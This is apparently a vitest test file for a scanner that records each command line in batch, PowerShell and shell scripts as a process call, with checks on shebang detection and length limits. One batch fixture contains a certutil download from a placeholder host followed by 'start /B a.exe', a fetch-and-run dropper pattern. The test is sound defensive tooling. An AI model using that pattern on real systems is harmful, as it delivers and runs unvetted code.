import { describe, expect, it } from 'vitest';
import { isScriptFile, scriptFileFacts } from './script-file-facts.js';

describe('scriptFileFacts', () => {
  it('makes each command line of a batch file a process call of cmd, skipping comments', () => {
    const text =
      '@echo off\r\nrem fetch\r\n:: also a comment\r\n\r\n  certutil -urlcache -f http://x.invalid/a a.exe\r\nstart /B a.exe\r\n';
    expect(scriptFileFacts('setup.bat', text)).toEqual([
      {
        kind: 'call',
        api: 'cmd',
        category: 'process',
        args: ['certutil -urlcache -f http://x.invalid/a a.exe'],
        at: {
          file: 'setup.bat',
          line: 5,
          column: 3,
          excerpt: 'certutil -urlcache -f http://x.invalid/a a.exe',
        },
      },
      {
        kind: 'call',
        api: 'cmd',
        category: 'process',
        args: ['start /B a.exe'],
        at: { file: 'setup.bat', line: 6, column: 1, excerpt: 'start /B a.exe' },
      },
    ]);
  });

  it('names the shell by extension', () => {
    expect(scriptFileFacts('a.ps1', 'iwr x')[0]).toMatchObject({ api: 'powershell' });
    expect(scriptFileFacts('bin/run', '#!/bin/sh\ncurl x')).toMatchObject([{ api: 'sh', args: ['curl x'] }]);
  });

  it('bounds lines and line length', () => {
    const facts = scriptFileFacts('big.sh', `${'x'.repeat(5000)}\n`.repeat(3000));
    expect(facts).toHaveLength(2000);
    expect(facts[0]?.kind === 'call' && facts[0].args[0]?.length).toBe(2000);
  });

  it.each([
    ['preinstall.sh', '', true],
    ['install.CMD', '', true],
    ['bin/tool', '#!/usr/bin/env bash\n', true],
    ['bin/tool', '#!/usr/bin/env node\n', false],
    ['README.md', '# title', false],
    ['data.json', '{}', false],
  ])('%s is a script: %s', (file, head, expected) => {
    expect(isScriptFile(file, head)).toBe(expected);
  });
});
